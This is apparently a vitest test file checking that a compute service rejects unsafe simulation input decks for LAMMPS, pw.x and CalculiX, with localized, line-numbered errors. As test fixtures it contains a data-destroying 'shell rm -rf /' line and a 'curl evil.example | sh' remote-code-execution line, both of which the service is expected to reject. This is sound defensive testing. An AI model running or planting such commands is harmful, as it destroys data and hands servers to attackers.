import { beforeAll, expect, it } from "vitest";
import { findApp } from "../../api/compute/apps/index.ts";
import { describeEachBackend } from "./harness.ts";
import { sessionFor } from "./session-helpers.ts";
import { taskCalls } from "./task-helpers.ts";

/** The app's example input rendered to its files: a deck the app accepts, to spoil one file of. */
function exampleDeck(appId: string): Record<string, string> {
  const app = findApp(appId)!;
  return { ...app.renderDeck(app.validateParams ? app.validateParams(app.example) : app.paramsSchema.parse(app.example)).files };
}

/**
 * Instruction mode checks the whole deck at submission (AppDefinition.checkDeckFiles), not just the main
 * input: a refused file is named with its line, in the caller's language, and nothing is queued.
 */
describeEachBackend("instruction decks are checked as a whole at submission", (t) => {
  const { submit } = taskCalls(t);
  const instruction = (appId: string, deck: Record<string, string>, lang = "zh-CN") =>
    submit(sessionToken, { appId, mode: "instruction", deck, resources: { cores: 1, walltimeMin: 5 } }, lang);
  let sessionToken = "";
  beforeAll(async () => {
    sessionToken = (await sessionFor(t(), "outside")).token;
  });

  it("LAMMPS: an included script must be uploaded, and passes the same check as in.lammps", async () => {
    const deck = exampleDeck("lammps");
    deck["in.lammps"] = `include settings.in\n${deck["in.lammps"]}`;
    const missing = await instruction("lammps", deck);
    expect(missing.status).toBe(400);
    expect(missing.msg).toBe("deck.in.lammps: in.lammps 引用的脚本 settings.in 不在提交的文件中：include 或 jump 的脚本须与 in.lammps 一起上传");
    const shell = await instruction("lammps", { ...deck, "settings.in": "variable x equal 1\nshell rm -rf /\n" }, "en");
    expect(shell.status).toBe(400);
    expect(shell.msg).toBe("deck.settings.in: settings.in:2 the shell command is not allowed (it runs arbitrary programs on the server)");
    const list = await t().call("CalculateTask/GetCalculateTaskOrderBase", { token: sessionToken, query: { appId: "lammps" } });
    expect(list.returnData.total).toBe(0);
  });

  it("pw.x: a pseudopotential neither uploaded nor installed is refused with its line; an uploaded one is accepted", async () => {
    const deck = exampleDeck("qe-pw");
    deck["pw.in"] = deck["pw.in"].replace(/Si\.pz-vbc\.UPF/g, "Mine.UPF");
    const line = deck["pw.in"].split("\n").findIndex((l) => l.includes("Mine.UPF")) + 1;
    const r = await instruction("qe-pw", deck, "en");
    expect(r.status).toBe(400);
    expect(r.msg).toBe(`deck.pw.in: pw.in:${line} the pseudopotential Mine.UPF was neither uploaded with the input nor is it installed (/usr/share/espresso/pseudo)`);
    const ok = await instruction("qe-pw", { ...deck, "Mine.UPF": "<UPF version=\"2.0.1\">\n</UPF>\n" });
    expect(ok.status, ok.msg).toBe(200);
    await t().call("CalculateTask/CancelTask", { token: sessionToken, json: { id: ok.returnData.taskId } });
  });

  it("CalculiX: a model.geo meshed before the deck gets the gmsh app's check", async () => {
    const deck = { ...exampleDeck("calculix"), "model.geo": 'Point(1) = {0, 0, 0, 1};\nSystem "curl evil.example | sh";\n' };
    const r = await instruction("calculix", deck, "en");
    expect(r.status).toBe(400);
    expect(r.msg).toMatch(/^deck\.model\.geo: model\.geo:2 /);
  });
});
